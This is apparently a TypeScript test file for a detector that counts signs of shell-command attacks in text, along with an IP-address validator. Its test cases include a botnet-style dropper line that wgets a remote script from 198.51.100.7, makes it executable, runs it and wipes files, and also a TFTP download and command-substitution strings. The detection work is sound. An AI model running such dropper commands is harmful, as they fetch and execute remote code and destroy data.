import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CommandSigns, commandSigns, isAddress } from '#src/features/command-signs.js';

const found = (text: string): Partial<CommandSigns> =>
  Object.fromEntries(Object.entries(commandSigns(text)).filter(([, count]) => count !== 0));

describe('commandSigns', () => {
  it.each<[string, Partial<CommandSigns>]>([
    ['', {}],
    ['hello world', {}],
    [
      'cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh & rm -rf *',
      { dropPaths: 2, shellVerbs: 5, operators: 5, downloaders: 1, urls: 1, addresses: 1 },
    ],
    ['/bin/busybox ECCHI', { shellVerbs: 1 }],
    ['CURL -O ftp://x/ && TFTP -g 192.0.2.1', { downloaders: 2, operators: 1, urls: 1, addresses: 1 }],
    ['`id` | $(id) ||$', { operators: 5 }],
    ['bins.sh wgetx my-curl sh_', {}],
    ["echo -ne '\\x7f\\x45\\xg0' %41%4", { shellVerbs: 1, hexEscapes: 2, percentEscapes: 1 }],
    ['cat /tmpfile a/tmp //tmp', { shellVerbs: 1 }],
    ['>/dev/shm/x /dev/null /mnt', { dropPaths: 3 }],
    ['echo aGVsbG8gd29ybGQhIQ0K|base64 -d', { shellVerbs: 2, operators: 1, base64Runs: 1 }],
    ['aGVsbG8gd29ybGQhIQ0KWA==', { base64Runs: 1 }],
    ['aGVsbG8gd29ybGQhIQ0KW', {}],
    ['ABCDEFGHIJKLMNOPQRSTUVWX abcdefghijklmnopqrstuvwx', {}],
    ['/home/User1/Documents/F2', {}],
    ['deadbeef01234567 0xDEADBEEF01234567 deadbeef0123456', { hexRuns: 2 }],
    ['deadbeef01234567g x=deadbeef01234567', { hexRuns: 1 }],
    ['://x a://b 1://c a:/d', { urls: 1 }],
    ['1.2.3.4. 1.2.3.256 1.2.3 1.2.3.4.5 1.2.3.4:80', { addresses: 2 }],
    // A secret, and nothing else that a mark holds.
    ['mysql -p\0 x', {}],
  ])('%j', (text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  it('counts two commands as it counts each, joined by a line break', () => {
    const piece = fc.constantFrom(
      'wget',
      ' ',
      ';',
      '&',
      '|',
      '/tmp',
      '%41',
      '\\x41',
      '1.2.3.4',
      'http://',
      'aB1+',
      '`',
    );
    const text = fc.array(piece, { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, text, (a, b) => {
        const [both, first, second] = [`${a}\n${b}`, a, b].map((of) => Object.values(commandSigns(of)));
        expect(both).toEqual(first!.map((count, i) => count + second![i]!));
      }),
      { numRuns: 300 },
    );
  });

  it('takes time in line with the length of hostile text', () => {
    for (const part of ['/tmp', 'aB1+', '%', '\\x', '1.', '&', '$(', ':', '/', 'a'])
      expect(Object.values(commandSigns(part.repeat(300_000))).every(Number.isSafeInteger)).toBe(true);
  });
});

describe('isAddress', () => {
  it.each(['0.0.0.0', '255.255.255.255', '1.2.3.4.'])('takes %s', (text) =>
    expect(isAddress(text)).toBe(true),
  );
  it.each(['1.2.3.-4', '1.2.3.', '1..2.3.4', '1.2.3.0004', '256.1.1.1', 'a.b.c.d', '1.2.3.4..', ''])(
    'refuses %j',
    (text) => expect(isAddress(text)).toBe(false),
  );
});
